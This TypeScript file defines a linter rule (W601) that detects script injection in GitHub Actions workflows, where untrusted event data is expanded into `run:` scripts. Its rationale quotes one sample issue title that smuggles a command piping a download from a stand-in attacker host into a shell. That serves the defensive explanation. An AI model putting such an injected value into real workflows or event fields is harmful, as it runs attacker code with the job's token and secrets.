/**
 * Rules about CI workflow files themselves rather than about the shell code in them, reported by
 * the GitHub Actions reader (src/sources/kinds/github-actions.ts) while it extracts `run:`
 * scripts. Golden-file tests cover them (test/fixtures/kinds), since their examples are YAML.
 */
import type { RuleMeta } from '../define.js';

/** A `${{ … }}` expression that reads attacker-controlled event data, pasted into a `run:` script. */
export const UNTRUSTED_INPUT_IN_RUN: RuleMeta = {
  id: 'untrusted-input-in-run',
  code: 'W601',
  title: 'Untrusted event data expanded into a run: script',
  category: 'workflow',
  severity: { agent: 'error', script: 'error' },
  docs: {
    rationale:
      'GitHub Actions replaces every `${{ … }}` in a `run:` script with its value before the shell starts, so the value ' +
      'becomes code. Issue and pull request titles and bodies, comment and review bodies, commit messages and author ' +
      'names, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), wiki page names and discussion ' +
      'texts are written by whoever opens the issue, pushes the branch or posts the comment: a title such as ' +
      '`x"; curl https://evil.example/x | sh #` runs in the job, with its token and secrets. GitHub calls this script ' +
      'injection (https://docs.github.com/en/actions/concepts/security/script-injections).',
    fix:
      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` ' +
      'on the step, `echo "$TITLE"` in `run:`. The shell then sees a variable, never code.',
    exceptions:
      'Every read of such a property counts, also inside a function (`format()`, `toJSON()`); an expression in `env:`, ' +
      '`with:` or `if:` is not a script and is not reported. Steps in any shell are checked, PowerShell ones too.',
  },
  sources: ['actionlint:expression', 'zizmor:template-injection'],
  examples: { valid: [], invalid: [] },
};

/** Every workflow rule. */
export const WORKFLOW_RULES: readonly RuleMeta[] = [UNTRUSTED_INPUT_IN_RUN];
